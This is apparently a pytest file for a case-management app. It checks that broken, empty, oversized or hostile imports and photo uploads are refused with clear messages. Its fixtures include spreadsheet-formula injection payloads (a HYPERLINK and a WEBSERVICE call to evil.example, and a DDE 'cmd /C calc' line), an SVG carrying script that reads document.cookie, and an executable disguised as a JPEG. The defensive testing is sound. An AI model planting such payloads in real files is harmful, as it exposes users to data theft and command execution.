"""Bad files: imports (the upload page and ``homecoming import``) and attachments that are broken,
foreign, empty, too big or hostile each get a message that says what is wrong and what to do,
never a 500, and nothing is written (docs/security.md, "Bad input")."""

from __future__ import annotations

import io
import zipfile

import pytest
from click.testing import CliRunner
from openpyxl import Workbook
from PIL import Image

from core.cli import main
from core.models import Attachment, Event, ImportBatch, Person, Role
from core.services import attachments, imports
from tests.conftest import post_form
from tests.core.conftest import count


def workbook(*rows: list[object]) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def a_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "not a workbook")
    return out.getvalue()


GOOD_XLSX = workbook(["name", "sex"], ["Sok Dara", "male"])
NOT_CSV = "This is not a CSV file in UTF-8 or an Excel (.xlsx) file. In Excel or LibreOffice, save it as “CSV UTF-8” or as .xlsx."
NOT_XLSX = "The file could not be read as an Excel workbook (.xlsx)."

BAD_IMPORTS = [
    ("truncated.xlsx", GOOD_XLSX[: len(GOOD_XLSX) // 2], NOT_XLSX),
    ("archive.xlsx", a_zip(), NOT_XLSX),
    ("binary.csv", bytes(range(256)) * 40, NOT_CSV),
    ("latin-1.csv", "name,village\nSok Dara,Café\n".encode("latin-1"), NOT_CSV),
    ("utf-16.csv", "name,village\nSok Dara,Phnom Penh\n".encode("utf-16"), NOT_CSV),
    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "This is an old Excel file (.xls); save it as .xlsx or as CSV UTF-8 and try again."),
    ("empty.csv", b"", "The file is empty."),
    ("blank.csv", b"\n\n  \n", "The file is empty."),
    ("header.csv", b"name,sex\n", "The file has column names but no rows."),
    ("header.xlsx", workbook(["name", "sex"]), "The file has column names but no rows."),
    ("no-name.csv", b"village,phone\nTakeo,012\n", "The file has no column “name”"),
    ("big.csv", b"name\n" + b"Sok Dara\n" * (imports.MAX_BYTES // 9 + 1), "The file is larger than 10 MB; split it into smaller files."),
]


def upload(client, content: bytes, filename: str, kind: str = "persons"):  # noqa: ANN001, ANN201
    return client.post(
        "/imports", data={"kind": kind, "_csrf_token": client.cookies.get("hc_csrf", "")},
        files={"file": (filename, content, "application/octet-stream")}, follow_redirects=False,
    )


@pytest.mark.parametrize(("filename", "content", "message"), BAD_IMPORTS, ids=[b[0] for b in BAD_IMPORTS])
def test_an_unreadable_import_is_refused_on_the_upload_page_with_what_to_do(client_for, db, filename: str, content: bytes, message: str) -> None:
    response = upload(client_for(Role.admin, "a"), content, filename)
    assert response.status_code == 422
    assert message.replace("“", "&#8220;") in response.text or message in response.text.replace("&#34;", '"')
    assert (count(db, ImportBatch), count(db, Person)) == (0, 0)


@pytest.mark.parametrize(("filename", "content", "message"), BAD_IMPORTS[:9], ids=[b[0] for b in BAD_IMPORTS[:9]])
def test_an_unreadable_import_is_refused_on_the_command_line_with_what_to_do(database_url, world, db, tmp_path, filename: str, content: bytes, message: str) -> None:  # noqa: ANN001
    path = tmp_path / filename
    path.write_bytes(content)
    result = CliRunner().invoke(main, ["--database-url", database_url, "import", "persons", str(path), "--org", "org-a"])
    assert result.exit_code == 1, result.output
    assert message in result.output and "Traceback" not in result.output
    assert (count(db, ImportBatch), count(db, Person)) == (0, 0)


@pytest.mark.parametrize(
    ("content", "filename"),
    [
        (b'name,sex\n=HYPERLINK("http://evil.example/?"&A1;"Sok Dara"),male\n', "persons.csv"),
        (b"name,sex\n@SUM(1+1)*cmd|' /C calc'!A0,male\n", "persons.csv"),
        (workbook(["name", "village"], ["Sok Dara", '=WEBSERVICE("http://evil.example")']), "persons.xlsx"),
    ],
    ids=["csv-hyperlink", "csv-dde", "xlsx-text-formula"],
)
def test_a_formula_cell_is_listed_as_a_bad_row_and_nothing_is_imported(client_for, db, content: bytes, filename: str) -> None:
    """CSV injection: a cell a spreadsheet would run as a formula is not a value; the dry run
    lists it with its row and column, and the file cannot be imported until it is fixed."""
    client = client_for(Role.admin, "a")
    checked = upload(client, content, filename)
    assert checked.status_code == 303
    page = client.get(checked.headers["location"])
    assert "is a spreadsheet formula, not a value: type the value itself." in page.text
    assert "1 row of 1 cannot be imported" in page.text and "/run" not in page.text
    ran = post_form(client, checked.headers["location"] + "/run")
    assert ran.status_code == 422
    assert count(db, Person) == 0


# --- attachments -----------------------------------------------------------------------------------


def picture(fmt: str, size: tuple[int, int] = (400, 300)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (120, 90, 30)).save(out, fmt)
    return out.getvalue()


JPEG = picture("JPEG")
NOT_A_PHOTO = "Choose a photo (JPEG, PNG or WebP)."
BAD_PHOTOS = [
    ("program.jpg", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 400, NOT_A_PHOTO),  # a Windows program named .jpg
    ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>', NOT_A_PHOTO),
    ("photo.jpg", b"GIF89a" + b"\x00" * 200, NOT_A_PHOTO),  # magic bytes of another type
    ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, NOT_A_PHOTO),  # right magic, no image behind it
    ("photo.jpg", JPEG[: len(JPEG) // 2], "The photo could not be read: it is damaged or incomplete. Choose the photo again."),
    ("empty.jpg", b"", "The file is empty."),
    ("huge.jpg", JPEG + b"\x00" * attachments.MAX_BYTES, "The file is larger than 10 MB."),
]


@pytest.mark.parametrize(("filename", "content", "message"), BAD_PHOTOS, ids=["exe", "svg", "gif-magic", "png-header-only", "truncated-jpeg", "empty", "oversized"])
def test_a_bad_photo_is_refused_at_its_field_and_nothing_is_written(make_case, client_for, db, filename: str, content: bytes, message: str) -> None:
    """The housing assessment's photos (any module's upload goes through core.services.attachments)."""
    case = make_case("a")
    client = client_for(Role.case_manager, "a")
    form = {"assessed_on": "2025-01-10", "roof": "thatch", "walls": "palm_leaves", "floor": "earth", "broken": "The roof leaks.",
            "urgency": "high", "_csrf_token": client.cookies.get("hc_csrf", "")}
    events = count(db, Event)
    response = client.post(f"/housing/cases/{case.id}/assess", data=form, files=[("photos", (filename, content, "image/jpeg"))], follow_redirects=False)
    assert response.status_code == 422, response.text[:500]
    assert message in response.text and 'id="e-photos"' in response.text
    assert (count(db, Attachment), count(db, Event)) == (0, events)
    # the same form with a real photo goes through
    response = client.post(f"/housing/cases/{case.id}/assess", data=form, files=[("photos", ("roof.jpg", JPEG, "image/jpeg"))], follow_redirects=False)
    assert response.status_code == 303 and count(db, Attachment) == 1
